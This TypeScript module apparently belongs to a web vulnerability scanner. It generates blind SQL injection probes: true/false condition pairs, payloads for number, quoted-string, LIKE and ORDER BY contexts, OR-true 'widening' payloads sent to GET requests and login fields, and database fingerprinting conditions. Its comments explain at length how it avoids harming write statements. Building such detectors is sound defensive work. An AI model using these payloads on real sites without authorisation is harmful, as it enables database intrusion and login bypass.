/**
 * Values that have a meaning only where they are read as SQL.
 *
 * They must do no harm in a statement that writes. Therefore:
 * - None comments out the rest of a statement: `UPDATE … SET name = 'x'-- ' WHERE id = 5` would write every row.
 * - None ends a statement, begins another, or reads other tables.
 * - A condition that is not true is NULL, never false. NULL stays NULL under NOT, <> and NOT IN, so that these values
 *   select no row that the usual value does not select. `AND 1=2` would: `DELETE … WHERE NOT (id = 5 AND 1=2)`.
 *   (A statement that changes all rows but one changes that one too for any other value, with or without injection.)
 * - MySQL reads `'x' AND …`, `'x'||…` and `'x'+…` as numbers where a value is expected, and `name IN (0)` is true for most
 *   names. So `+` is never sent. `||` becomes NULL where it is not concatenation, and is not sent with values that are read
 *   as numbers. AND is not sent to a statement that may write where the text is in a list (`Context.needsComparison`).
 * - Those of `WIDENING` make a false condition true, and are only for statements that read (`mayWiden`).
 */
import { randomInt } from 'node:crypto';
import { leadsToHarm } from '../../kit/conduct.ts';
import type { InsertionPoint } from '../probe.ts';

/** Two conditions of the same characters: only a database can tell which of them is true. */
export interface Conditions {
  true: string;
  false: string;
  /** the numbers in both */
  numbers: readonly string[];
}

export interface Context {
  name: string;
  /** the quotes around the value in the statement */
  quote: '' | "'" | '"';
  /** Whether the payload is a condition, which could do harm in a list of values. */
  needsComparison?: boolean;
  /** whether it closes a parenthesis; where that is valid SQL, the text is the last one of a list or call */
  closes?: boolean;
  /** whether it changes the order of rows, rather than the rows */
  ordered?: boolean;
  suits(value: string): boolean;
  /** A value that is equal to the usual one when the condition is true. */
  payload(value: string, condition: string): string;
}

/**
 * @param round reverses the relation of the numbers each time, so that "the first number is the larger" never decides
 * @param page a page in which the numbers must not occur
 */
export function conditionsOf(round: number, page: string): Conditions {
  for (let attempts = 0; ; attempts++) {
    const big = randomInt(5000, 10_000);
    const small = randomInt(1000, big - 1000);
    const rest = big - small;
    const numbers = [big, small, rest].map(String);
    const taken = rest === small || numbers.some((number) => page.includes(number));
    if (taken && attempts < 50) continue;
    return round % 2 === 0
      ? { true: `${big}-${small}=${rest}`, false: `${small}-${big}=${rest}`, numbers }
      : { true: `${small}-${big}=-${rest}`, false: `${big}-${small}=-${rest}`, numbers };
  }
}

const NUMBER = /^-?\d{1,18}(?:\.\d{1,9})?$/;
/** One or more, as in a list of ids. */
const NUMBERS = /^-?\d{1,18}(?:\.\d{1,9})?(?:,\s?-?\d{1,18}){0,50}$/;
/** What rows are sorted by, with its direction. */
const SORT_KEY = /^([a-z_]\w{0,62}(?:\.[a-z_]\w{0,62})?)((?:\s(?:asc|desc))?)$/i;
/** Begins like a number: MySQL reads such a text as one. */
const NUMERIC = /^\s*[-+.]{0,2}\d/;
const always = () => true;
const isTrue = (condition: string) => `CASE WHEN ${condition} THEN 1 END=1`;

/** The most frequent ones first. */
export const CONTEXTS: readonly Context[] = [
  {
    name: 'a number',
    quote: '',
    suits: (value) => NUMBERS.test(value),
    payload: (value, condition) => `${value}-CASE WHEN ${condition} THEN 0 END`,
  },
  {
    // Valid wherever a text is: beside = and LIKE, in lists, in calls. Not in MySQL and SQL Server, hence the other contexts.
    name: 'a string in single quotes',
    quote: "'",
    suits: (value) => !NUMERIC.test(value),
    payload: (value, condition) => `${value}'||CASE WHEN ${condition} AND 'k'||'q'='kq' THEN '' END||'`,
  },
  ...["'", '"'].flatMap((quote) =>
    [
      { before: '', after: ')', where: 'a string in parentheses' },
      { before: '%', after: ')', where: 'a pattern in parentheses' },
      { before: '', after: '', where: 'a text' },
      { before: '%', after: '', where: 'a pattern' },
    ].map(({ before, after, where }): Context => {
      const open = after && '(';
      return {
        name: `${where} in ${quote === "'" ? 'single' : 'double'} quotes`,
        quote: quote as Context['quote'],
        needsComparison: after === '',
        closes: after !== '',
        suits: always,
        // LIKE accepts a % that follows the value.
        payload: (value, condition) =>
          `${value}${before}${quote}${after} AND ${isTrue(condition)} AND ${open}${quote}k${quote}${after} LIKE ${open}${quote}k`,
      };
    }),
  ),
  {
    name: 'a column name',
    quote: '',
    ordered: true,
    suits: (value) => SORT_KEY.test(value),
    payload: (value, condition) => value.replace(SORT_KEY, `CASE WHEN ${condition} THEN $1 END$2`),
  },
];

/** For values that find nothing: a true condition makes rows appear. */
export const WIDENING: readonly Context[] = [
  {
    name: 'a string in single quotes',
    quote: "'",
    suits: always,
    payload: (value, condition) => `${value}' OR ${isTrue(condition)} OR 'k' LIKE 'q`,
  },
  {
    name: 'a number',
    quote: '',
    suits: always,
    payload: (value, condition) => `${NUMBER.test(value) ? value : '0'} OR ${isTrue(condition)}`,
  },
  {
    name: 'a string in single quotes and parentheses',
    quote: "'",
    suits: always,
    payload: (value, condition) => `${value}') OR ${isTrue(condition)} OR ('k') LIKE ('q`,
  },
  {
    name: 'a string in double quotes',
    quote: '"',
    suits: always,
    payload: (value, condition) => `${value}" OR ${isTrue(condition)} OR "k" LIKE "q`,
  },
];

/** One text more: valid SQL only in a list or a call. */
export const oneMore = (value: string, quote: string): string => `${value}${quote},${quote}k`;

/** Whether the request only reads, as far as method and URL show. */
export const onlyReads = ({ method, url }: InsertionPoint): boolean => method === 'GET' && !leadsToHarm(url);

const LOGS_IN = /log-?_?in|sign-?_?in|auth|session/i;
const CREATES = /regist|sign-?_?up|reset|forgot|recover|create|update|edit|\bnew\b/i;
/** Parameters of GET forms that write. */
const WRITES =
  /(?:^|[^a-z])(?:save|change|add|insert|set|send|subscribe|vote|book|apply|confirm|approve|assign|move|rename|import|upload|publish|enable|activate|grant)(?:[^a-z]|$)/i;
const CREDENTIAL = /user|login|mail|name|pass|pwd/i;

/**
 * Whether a statement that selects more rows than it should only shows more: GET requests that do not look state changing,
 * and logins. Sites that write on GET without a hint in their URLs cannot be recognised from outside.
 */
export function mayWiden(point: InsertionPoint, usualStatus: number): boolean {
  const { method, url, name, value, madeUp } = point;
  const { pathname, search } = new URL(url);
  if (leadsToHarm(url) || CREATES.test(pathname)) return false;
  const isForm = madeUp === true;
  if (onlyReads(point)) {
    // The names of fields and buttons say what a form does.
    if (isForm && (WRITES.test(pathname + search) || CREATES.test(search))) return false;
    return value === '' || isForm || usualStatus === 404;
  }
  return method === 'POST' && LOGS_IN.test(new URL(url).pathname) && CREDENTIAL.test(name);
}

/** Conditions that are true in one database, and a syntax error in all others. */
export const DIALECTS: readonly { database: string; condition: string }[] = [
  { database: 'SQLite', condition: 'sqlite_version()=sqlite_version()' },
  { database: 'MySQL or MariaDB', condition: 'connection_id()=connection_id()' },
  { database: 'PostgreSQL', condition: 'pg_backend_pid()=pg_backend_pid()' },
  { database: 'Microsoft SQL Server', condition: '@@SPID=@@SPID' },
  { database: 'Oracle', condition: "SYS_CONTEXT('USERENV','LANG') IS NOT NULL" },
];
